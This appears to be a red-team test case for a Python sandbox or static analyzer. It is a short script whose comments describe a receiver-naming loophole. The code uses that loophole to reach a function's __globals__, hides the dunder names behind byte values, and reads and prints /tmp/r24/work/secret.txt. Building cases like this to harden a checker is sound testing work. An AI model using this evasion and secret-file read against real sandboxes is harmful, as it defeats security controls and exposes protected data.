# family: red team, round 24 (what a method's self may be)
# Chain: objects._bound refuses a receiver named `cls` but takes any other parameter for an object while no class
# is "handed out"; handed_out._class_value counts a classmethod's first parameter only when used as a *value*
# (Tag.VALUE), not as a receiver (Tag.CHAIN). So in `@classmethod def make(klass, ...)`, klass.fetch(box, fn)
# passes as a bound call: it is Reader.fetch, the plain function, run with a namedtuple as self, whose trusted
# class constant self.FIELDS is a run-time ["__globals__"] -> builtins -> open.
from collections import namedtuple


class Reader:
    FIELDS = ("name",)

    def fetch(self, fn):
        out = []
        for key in self.FIELDS:
            out.append(getattr(fn, key))
        return out

    @classmethod
    def make(klass, box, fn):
        return klass.fetch(box, fn)


Box = namedtuple("Box", "FIELDS")


def helper():
    return 1


def run():
    d = bytes([95, 95]).decode()
    box = Box((d + "globals" + d,))
    got = Reader.make(box, helper)[0]
    print(sorted(got.keys())[:8])
    print(got[d + "builtins" + d].open("/tmp/r24/work/secret.txt").read())


run()
